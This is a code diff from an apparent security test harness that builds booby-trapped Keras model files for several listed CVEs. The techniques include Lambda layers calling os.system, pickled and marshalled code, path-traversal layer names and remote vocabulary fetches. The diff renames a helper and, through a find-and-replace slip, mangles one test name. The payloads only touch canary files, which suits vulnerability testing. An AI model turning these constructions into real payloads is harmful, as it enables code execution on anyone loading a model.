@@ -230,7 +230,7 @@ def keras_archive(layer: dict[str, Any]) -> bytes:
     return written.getvalue()
 
 
-def _layer(class_name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
+def marked_layer(class_name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
     return {"module": module, "class_name": class_name, "config": {"name": MARK, **config}}
 
 
@@ -264,37 +264,37 @@ def cve_2025_9905_lambda_in_an_h5_file(place: Place) -> None:
 @exploit(thorough=True)
 def cve_2025_1550_function_of_any_module(place: Place) -> None:
     command = {"command": f"touch {place.canary}"}
-    layer = _layer("Lambda", function=_function("os", "system"), arguments=command)
+    layer = marked_layer("Lambda", function=_function("os", "system"), arguments=command)
     place.put_archive("model.keras", keras_archive(layer))
 
 
 @exploit(thorough=True)
 def cve_2025_8747_get_file_as_a_gadget(place: Place) -> None:
     options = {"fname": str(place.canary), "origin": f"http://127.0.0.1:9/{MARK}"}
-    layer = _layer("Lambda", function=_function("keras.utils", "get_file"), arguments=options)
+    layer = marked_layer("Lambda", function=_function("keras.utils", "get_file"), arguments=options)
     place.put_archive("model.keras", keras_archive(layer))
 
 
 @exploit(thorough=True)
 def cve_2025_9906_config_that_turns_safety_off(place: Place) -> None:
     function = _function("keras.config", "enable_unsafe_deserialization")
-    place.put_archive("model.keras", keras_archive(_layer("Lambda", function=function)))
+    place.put_archive("model.keras", keras_archive(marked_layer("Lambda", function=function)))
 
 
 @exploit(thorough=True)
 def cve_2025_49655_torch_module_with_a_pickle(place: Place) -> None:
     module = base64.b64encode(pickled(place)).decode()
-    place.put_archive("model.keras", keras_archive(_layer("TorchModuleWrapper", module=module)))
+    place.put_archive("model.keras", keras_archive(marked_layer("TorchModuleWrapper", module=module)))
 
 
 @exploit()
 def cve_2025_12058_vocabulary_from_any_path(place: Place) -> None:
-    place.put_archive("model.keras", keras_archive(_layer("StringLookup", vocabulary=str(place.bait))))
+    place.put_archive("model.keras", keras_archive(marked_layer("StringLookup", vocabulary=str(place.bait))))
 
 
 @exploit(thorough=True)
 def cve_2025_12058_vocabulary_from_an_address(place: Place) -> None:
-    layer = _layer("TextVectorization", vocabulary=f"http://127.0.0.1:9/{MARK}")
+    layer = marked_layer("TextVectorization", vocabulary=f"http://127.0.0.1:9/{MARK}")
     place.put_archive("model.keras", keras_archive(layer))
 
 
@@ -302,21 +302,21 @@ def cve_2025_12058_vocabulary_from_an_address(place: Place) -> None:
 def cve_2026_1462_layer_of_a_saved_model(place: Place) -> None:
     save_hostile_model(place, place.root / "outside" / f"{MARK}_model")
     filepath = str(place.root / "outside" / f"{MARK}_model")
-    place.put_archive("model.keras", keras_archive(_layer("TFSMLayer", filepath=filepath)))
+    place.put_archive("model.keras", keras_archive(marked_layer("TFSMLayer", filepath=filepath)))
 
 
 @exploit()
 def cve_2026_12479_layer_named_as_a_path(place: Place) -> None:
-    layer = {**_layer("Dense", units=1), "config": {"name": f"../../outside/{MARK}_made", "units": 1}}
+    layer = {**marked_layer("Dense", units=1), "config": {"name": f"../../outside/{MARK}_made", "units": 1}}
     place.put_archive("model.keras", keras_archive(layer))
 
 
 @exploit(thorough=True)
-def cve_2026_12481_lambda_inside_another_layer(place: Place) -> None:
+def cve_2026_12481_lambda_inside_anothermarked_layer(place: Place) -> None:
     code = base64.b64encode(marshal.dumps(touching(place).__code__)).decode()
     function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
-    inner = {**_layer("Lambda", function=function), "registered_name": None}
-    place.put_archive("model.keras", keras_archive(_layer("TimeDistributed", layer=inner)))
+    inner = {**marked_layer("Lambda", function=function), "registered_name": None}
+    place.put_archive("model.keras", keras_archive(marked_layer("TimeDistributed", layer=inner)))
 
 
 def _h5(write: Callable[[h5py.File], Any]) -> bytes:
